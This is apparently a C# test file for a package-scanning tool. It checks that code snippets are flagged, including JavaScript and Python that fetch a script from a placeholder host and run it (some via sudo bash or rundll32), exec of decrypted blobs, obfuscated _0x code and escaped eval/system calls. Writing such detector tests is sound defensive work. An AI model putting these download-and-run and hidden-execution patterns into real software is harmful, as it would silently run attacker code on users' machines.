namespace Symbiont.Scanning.Tests.Code;

/// <summary>Packages that fetch by a client nobody described, start what they wrote, run what they decrypt, and carry programs that nobody can read.</summary>
public sealed class PackageProgramTests
{
    [Theory]
    [InlineData("index.js", "const bent = require('bent');\nconst fs = require('fs');\nconst { execSync } = require('child_process');\nbent('string')('https://cdn.example.net/a.js').then(text => {\n  fs.writeFileSync('/tmp/a.js', text);\n  execSync('node /tmp/a.js');\n});\n")]
    [InlineData("index.js", "const phin = require('phin');\nconst fs = require('fs');\nconst { fork } = require('child_process');\nphin('https://cdn.example.net/a.js').then(answer => {\n  fs.writeFileSync('a.js', answer.body);\n  fork('a.js');\n});\n")]
    [InlineData("index.js", "const rp = require('request-promise-native');\nconst fs = require('fs');\nconst { exec } = require('child_process');\n(async () => {\n  const text = await rp.get('https://cdn.example.net/a.sh');\n  fs.writeFileSync('/tmp/a.sh', text);\n  exec('sh /tmp/a.sh');\n})();\n")]
    [InlineData("index.js", "const needle = require('needle');\nconst fs = require('fs');\nconst cp = require('child_process');\nneedle('get', 'https://cdn.example.net/a.py').then(r => {\n  fs.writeFile('a.py', r.body, () => cp.exec('python a.py'));\n});\n")]
    [InlineData("index.js", "const client = require('tiny-http-lite');\nconst fs = require('fs');\nconst cp = require('child_process');\nclient.get('https://cdn.example.net/a.py').then(r => {\n  fs.writeFileSync('a.py', r);\n  cp.exec('python a.py');\n});\n")]
    [InlineData("a.py", "import os\nimport fetcher\ntext = fetcher.get('https://cdn.example.net/a.sh')\nopen('/tmp/a.sh', 'w').write(text)\nos.system('sh /tmp/a.sh')\n")]
    [InlineData("index.js", "const rp = require('request-promise');\nconst fs = require('fs');\nconst path = require('path');\nlet from = 'https://cdn.example.net/a.js';\nrp.get(from).then(e => {\n  let p = path.resolve(__dirname, './a.js');\n  fs.writeFile(p, e, 'utf8', (error) => {\n    require('child_process').exec(`node ${p}`, () => {});\n  });\n});\n")]
    [InlineData("a.py", "import subprocess, sys, requests\nopen('next.py', 'w').write(requests.get('https://cdn.example.net/n').text)\nsubprocess.Popen([sys.executable, 'next.py'])\n")]
    [InlineData("a.ts", "import axios from 'axios';\nimport * as fs from 'fs';\nimport { spawn } from 'child_process';\nconst answer = await axios.get('https://cdn.example.net/n');\nfs.writeFileSync('./next.js', answer.data);\nspawn('node', ['next.js']);\n")]
    [InlineData("a.py", "import os, urllib.request\nurllib.request.urlretrieve('https://cdn.example.net/n', '/tmp/n')\nos.system('cd /tmp && sudo bash /tmp/n')\n")]
    [InlineData("a.js", "const https = require('https');\nconst fs = require('fs');\nconst { exec } = require('child_process');\nhttps.get('https://cdn.example.net/t', answer => {\n  const to = fs.createWriteStream('next.dll');\n  answer.pipe(to);\n  to.on('finish', () => exec('rundll32.exe next.dll,Start'));\n});\n")]
    public void What_was_fetched_and_written_is_started(string file, string text) => CodeScan.Finds(file, text, "code-download-and-run", Severity.High);

    [Theory]
    [InlineData("a.py", "from Crypto.Cipher import AES\nbox = AES.new(b'0123456789abcdef', AES.MODE_ECB)\nexec(box.decrypt(BLOB))\n")]
    [InlineData("a.py", "from vault import unlock, Box\nexec(Box('key').decrypt('xxxxxxxxxxxxxxxxxxxxxxxxx'))\n")]
    [InlineData("a.js", "const CryptoJS = require('crypto-js');\neval(CryptoJS.AES.decrypt(blob, 'key').toString(CryptoJS.enc.Utf8));\n")]
    [InlineData("a.py", "import nacl.secret\nbox = nacl.secret.SecretBox(KEY)\nexec(box.decrypt(BLOB).decode())\n")]
    [InlineData("a.py", "def decrypt(data):\n    return ''.join(letter for letter in turn(data))\nexec(decrypt(BLOB))\n")]
    [InlineData("a.js", "const box = require('sealed-box');\nnew Function(box.decryptSync(text, key))();\n")]
    public void What_was_decrypted_runs(string file, string text) => CodeScan.Finds(file, text, "code-obfuscated-execution", Severity.Critical);

    [Theory]
    [InlineData("a.py", "with open('b.js', 'w') as f:\n    f.write('''var _0x3f2a1b=_0x11d4;(function(_0x31aa14,_0x4da2d4){while(!![]){try{if(_0x31aa14===_0x4da2d4)break;else _0x31aa14['push'](_0x31aa14['shift']());}catch(_0x4d9550){_0x31aa14['push'](_0x3f2a1b);}}}(_0x11d4,0x3fa12));function _0x11d4(_0x5a1b2c,_0x6d7e8f){return _0x5a1b2c;}''')\n")]
    [InlineData("a.rb", "File.write('b.js', 'var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);var _0x3f2a1b=_0x11d4(_0x31aa14,_0x4da2d4);')\n")]
    [InlineData("a.go", "package a\nvar page = \"function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}\"\n")]
    [InlineData("a.cs", "var page = \"function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}function _0x3f2a1b(_0x11d4,_0x31aa14){return _0x4da2d4;}\";\n")]
    public void A_text_carries_a_program_of_an_obfuscator(string file, string text) => CodeScan.Finds(file, text, "code-obfuscated-source", Severity.High);

    [Theory]
    [InlineData("a.js", "const line = `\\n\\\\u{72}\\\\u{65}\\\\u{71}\\\\u{75}\\\\u{69}\\\\u{72}\\\\u{65}(\"tidy-core\").start();`;\nfs.writeFileSync(main, line + text);\n")]
    [InlineData("a.php", "<?php\n$line = \"<?php \\x65\\x76\\x61\\x6c(\\$x);\";\n")]
    [InlineData("a.py", "line = 'import os; os.\\\\x73\\\\x79\\\\x73\\\\x74\\\\x65\\\\x6d(c)'\n")]
    public void A_word_in_escapes_stands_in_a_longer_text(string file, string text) => CodeScan.Finds(file, text, "code-hidden-name", Severity.High);

    [Theory]
    [InlineData("a.py", "import subprocess, requests\nopen('data.tar.gz', 'wb').write(requests.get('https://files.example.org/d').content)\nsubprocess.run('tar -xzf data.tar.gz', shell=True)\n")]
    [InlineData("a.js", "const client = require('tiny-client');\nconst fs = require('fs');\nconst { execSync } = require('child_process');\nfs.writeFileSync('list.json', client.get('https://files.example.org/l'));\nexecSync('node build.js list');\n")]
    [InlineData("a.js", "const store = require('tiny-store');\nconst { execSync } = require('child_process');\nconst name = store.get('name');\nexecSync('git status');\n")]
    [InlineData("a.py", "import subprocess\nimport vault\npassword = vault.decrypt(stored)\nsubprocess.run(['psql', '-h', 'db'], env={'PGPASSWORD': password})\n")]
    [InlineData("a.js", "const vault = require('vault');\nconst settings = JSON.parse(vault.decrypt(text));\n")]
    [InlineData("a.py", "colours = '0x000000 0x001267 0x0024ce 0x003735 0x00499c 0x005c03 0x006e6a 0x0080d1 0x009338 0x00a59f 0x00b806 0x00ca6d 0x00dcd4 0x00ef3b 0x0101a2 0x011409 0x012670 0x0138d7 0x014b3e 0x015da5 0x01700c 0x018273 0x0194da 0x01a741 0x01b9a8 0x01cc0f 0x01de76 0x01f0dd 0x020344 0x0215ab 0x022812 0x023a79 0x024ce0 0x025f47 0x0271ae 0x028415 0x02967c 0x02a8e3 0x02bb4a 0x02cdb1'\nname = '_0x1a'\n")]
    [InlineData("a.js", "const accents = 'caf\\u00e9 \\u0065\\u0301 \\x41\\x42\\x43\\x44\\x45';\n")]
    public void What_only_looks_like_it_passes(string file, string text) => CodeScan.Passes(file, text);

    [Theory]
    [InlineData("\\x65\\x76\\x61")]
    [InlineData("_0x")]
    [InlineData("_0x1a ")]
    [InlineData("\\\\u{6")]
    public void A_long_text_is_read_once(string piece)
    {
        var text = $"x = '{string.Concat(Enumerable.Repeat(piece, 100_000 / piece.Length))}'\n";

        Assert.True(CodeScan.Of("a.py", text).Count < 10);
    }

    [Fact]
    public void A_long_command_of_many_words_is_read_once()
    {
        var text = $"import os, requests\nopen('a.sh', 'w').write(requests.get('https://x.example.net').text)\nos.system('{string.Concat(Enumerable.Repeat("sh a; ", 20_000))}')\n";

        Assert.True(CodeScan.Of("a.py", text).Count < 10);
    }
}
